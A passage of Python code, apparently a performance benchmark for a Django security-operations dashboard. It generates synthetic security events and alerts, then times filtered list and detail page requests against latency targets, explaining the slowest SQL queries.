                yield (event.id, EventStatus.UNHANDLED, EventStatus.HANDLED,
                       "False positive.", self._at(later))  # fmt: skip
                continue
            yield (event.id, EventStatus.UNHANDLED, handling, "", self._at(later))
            if event.status != handling:
                note = (
                    "Blocked and quarantined."
                    if event.status == EventStatus.HANDLED
                    else "Handling task failed: the cloud service refused the request."
                )
                done = min(later + self.rng.uniform(60, 3600), self.now_epoch)
                yield (event.id, handling, event.status, note, self._at(done))

    def _alert_plan(self, events: list[_Event]) -> list[tuple]:
        """(occurred epoch, event index or -1, host) per alert, in order of occurrence."""
        rng = self.rng
        plan = []
        for index, event in enumerate(events):
            span = event.last - event.first
            plan.append((event.first, index, event.hosts[0]))
            if event.size > 1:
                plan.append((event.last, index, event.hosts[-1]))
            for _ in range(event.size - 2):
                plan.append((event.first + rng.random() * span, index, rng.choice(event.hosts)))
        # The rest: whitelisted alerts, stored but never aggregated.
        all_hosts = [host for hosts in self.hosts.values() for host in hosts]
        span = DAYS * 86400 - 3600
        for _ in range(self.wanted["alerts"] - len(plan)):
            plan.append((self.now_epoch - rng.random() * span, -1, self._skewed(all_hosts, 2.0)))
        plan.sort(key=lambda item: item[0])
        return plan

    def _write_alerts(self, events: list[_Event]) -> None:
        plan = self._alert_plan(events)
        first_id = _reserve_ids(Alert, len(plan))
        rng = self.rng
        links: list[tuple[int, int]] = []
        entity_links: list[tuple[int, int, str]] = []
        processes = {
            account: [self.entities[(account, EntityType.PROCESS, p)] for p in PROCESSES]
            for account in range(len(ACCOUNTS))
        }
        whitelisted_kinds = [MALICIOUS_PROCESS, UNUSUAL_LOGON, *WEB_ATTACKS[:1], FIREWALL[1]]
        columns = ["id", "account_id", "asset_id", "source", "source_uuid", "type", "name",
                   "level", "occurred_at", "received_at", "region", "tactic", "technique",
                   "description", "exceptions", "raw", "whitelisted"]  # fmt: skip
        levels = {1: "remind", 2: "suspicious", 3: "serious"}
        first_alert_of: set[int] = set()

        def rows():
            for offset, (moment, event_index, host) in enumerate(plan):
                alert_id = first_id + offset
                if event_index >= 0:
                    event = events[event_index]
                    kind = event.alert_kind
                    if event.kind.group not in ("alert", "alert_name"):
                        kind = rng.choice(event.kind.alerts)
                    # The first alert carries the event's risk; the others at most that.
                    if event_index not in first_alert_of:
                        first_alert_of.add(event_index)
                        level = event.risk
                    else:
                        level = rng.randint(1, event.risk)
                    links.append((event.id, alert_id))
                    if event.entity_key:
                        entity = self.entities[(event.account, *event.entity_key)]
                        entity_links.append((alert_id, entity, EntityRole.ATTACKER))
                    whitelisted = False
                    account = event.account
                else:
                    kind = rng.choice(whitelisted_kinds)
                    level = rng.randint(1, 2)
                    whitelisted = True
                    account = host.account
                if kind.source == SC and rng.random() < 0.5:
                    entity_links.append(
                        (alert_id, rng.choice(processes[account]), EntityRole.RELATED)
                    )
                occurred = self._at(moment)
                received = self._at(moment + rng.uniform(1, 90))
                raw = {
                    "uuid": f"pages-{alert_id}",
                    "level": levels[level],
                    "name": kind.name,
                    "instance_id": host.instance_id,
                    "uuid_host": host.uuid,
                    "occurred": int(moment * 1000),
                    "detail": {"type": kind.type, "host": host.name, "tactic": kind.tactic},
                }
                yield (
                    alert_id,
                    self._account_id(account),
                    host.id,
                    kind.source,
                    f"pages-{alert_id}",
                    kind.type,
                    kind.name,
                    level,
                    occurred,
                    received,
                    host.region,
                    kind.tactic,
                    kind.technique,
                    f"{kind.name} on {host.name}.",
                    "[]",
                    json.dumps(raw, separators=(",", ":")),
                    whitelisted,
                )

        _copy(Alert, columns, rows())
        links.sort()
        _copy(EventAlert, ["event_id", "alert_id"], links)
        _copy(AlertEntity, ["alert_id", "entity_id", "role"], entity_links)


# --- the requests ------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    page: str
    label: str
    url: str
    bar_ms: float


def _clients(user, biggest: Account):
    """A logged-in client per view: the biggest account's Current Account View, then
    the Global Account View, both in the biggest account's home region."""
    for view in (View.CURRENT, View.GLOBAL):
        client = Client()
        client.force_login(user)
        session = client.session
        session[secops_services.SESSION_VIEW] = view
        session[secops_services.SESSION_ACCOUNT] = biggest.id
        session[secops_services.SESSION_REGION] = biggest.home_region
        session.save()
        yield ("current" if view == View.CURRENT else "global"), client


def _cases(view: str, accounts: list[Account]) -> list[Case]:
    biggest = accounts[0]
    region = biggest.home_region
    today = timezone.localdate()
    week_ago = timezone.now() - timedelta(days=6)
    recent = SecurityEvent.objects.filter(
        account=biggest, region=region, last_occurred_at__gte=week_ago
    )
    event_id = recent.order_by("id").values_list("id", flat=True)[recent.count() // 2]
    # The host of the biggest account named by the most events of the last week.
    busiest = Counter(
        SecurityEvent.affected_assets.through.objects.filter(event__in=recent).values_list(
            "asset_id", flat=True
        )
    ).most_common(1)[0][0]
    host = Asset.objects.get(id=busiest)
    small = (
        SecurityEvent.objects.filter(account=biggest, region=region, alert_count__in=[2, 3])
        .order_by("-id")
        .first()
    )
    largest = (
        SecurityEvent.objects.filter(account=biggest, region=region)
        .order_by("-alert_count", "-id")
        .first()
    )

    events_url = reverse("events:list")
    list_filters = [
        ("no filter (last 7 days)", {}),
        *[(f"risk {r.label}", {"risk": r.value}) for r in sorted(RiskLevel, reverse=True)],
        *[(f"status {s.label}", {"status": s.value}) for s in EventStatus],
        ("name contains 'Web attacks'", {"name": "Web attacks"}),
        (f"name contains '{host.name}'", {"name": host.name}),
        ("event id", {"event_id": event_id}),
        ("asset id (busiest host)", {"asset": host.instance_id}),
        *[(f"occurred {p}", {"occurred": p}) for p in ("1d", "30d", "90d", "180d")],
        (
            "custom range of 90 days",
            {
                "occurred": "custom",
                "start": (today - timedelta(days=119)).isoformat(),
                "end": (today - timedelta(days=30)).isoformat(),
            },
        ),
        *[(f"sort {s}", {"sort": s}) for s in ("last", "-first", "-risk", "-alerts")],
        # Beyond the single filters: the widest range with one more filter,
        # as when an analyst looks for something over the whole retention.
        ("180 days + name contains 'Web attacks'", {"occurred": "180d", "name": "Web attacks"}),
        (f"180 days + name contains '{host.name}'", {"occurred": "180d", "name": host.name}),
        ("180 days + asset id", {"occurred": "180d", "asset": host.instance_id}),
        ("180 days + status Failed", {"occurred": "180d", "status": EventStatus.FAILED}),
        ("180 days + sort -risk", {"occurred": "180d", "sort": "-risk"}),
        ("180 days + sort -alerts", {"occurred": "180d", "sort": "-alerts"}),
    ]
    cases = []
    for label, params in list_filters:
        for page in (1, DEEP_PAGE):
            query = {**params, **({"page": page} if page > 1 else {})}
            cases.append(
                Case(
                    "events",
                    f"{label}, page {page}",
                    f"{events_url}?{urlencode(query)}" if query else events_url,
                    LIST_BAR_MS,
                )
            )
    for size, event in (("small", small), ("largest", largest)):
        if event is None:
            continue
        url = reverse("events:detail", args=[event.id])
        for tab in ("info", "timeline", "alerts", "tracing"):
            cases.append(
                Case(
                    "details",
                    f"{size} event ({event.alert_count} alerts), {tab}",
                    f"{url}?tab={tab}",
                    DETAILS_BAR_MS,
                )
            )
    alerts_url = reverse("alerts:list")
    alert_filters = [
        ("no filter (last 7 days)", {}),
        ("no filter, page 50", {"page": DEEP_PAGE}),
        *[(f"cloud service {s.label}", {"source": s.value}) for s in AlertSource],
        *[(f"level {r.label}", {"level": r.value}) for r in sorted(RiskLevel, reverse=True)],
        ("type brute_force", {"type": "brute_force"}),
        ("whitelisted", {"whitelisted": "yes"}),
        ("not whitelisted", {"whitelisted": "no"}),
        *[(f"period {p}", {"period": p}) for p in ("1h", "1d", "30d", "180d")],
    ]
    for label, params in alert_filters:
        url = f"{alerts_url}?{urlencode(params)}" if params else alerts_url
        cases.append(Case("alerts", label, url, LIST_BAR_MS))
    return cases


ROW_MARKERS = {
    "events": re.compile(rb"<tr data-event-id="),
    "alerts": re.compile(rb"<tr data-alert-id="),
    "details": re.compile(rb'data-testid="(?:alert-details|timeline-alert)"|<tr><td>'),
}


def _measure(client: Client, case: Case, view: str, repeats: int, explain: bool) -> CaseFigures:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(case.url, secure=True)
    # Read now: the next request's request_started signal empties the query log.
    queries = list(captured.captured_queries)
    figures = CaseFigures(
        page=case.page,
        view=view,
        label=case.label,
        url=case.url,
        bar_ms=case.bar_ms,
        status=response.status_code,
        rows=len(ROW_MARKERS[case.page].findall(response.content)),
        queries=len(queries),
    )
    if response.status_code != 200:
        return figures
    for _ in range(WARM_UP - 1):
        client.get(case.url, secure=True)
    for _ in range(repeats):
        began = perf_counter()
        client.get(case.url, secure=True)
        figures.durations.append(perf_counter() - began)
    if explain and not figures.passes:
        slowest = sorted(queries, key=lambda q: float(q["time"]), reverse=True)
        figures.explained = [_explain(query["sql"]) for query in slowest[:2]]
    return figures


def _explain(query: str) -> str:
    with connection.cursor() as cursor:
        cursor.execute(f"EXPLAIN (ANALYZE, BUFFERS) {query}")
        plan = "\n".join(row[0] for row in cursor.fetchall())
    return f"{query}\n{plan}"
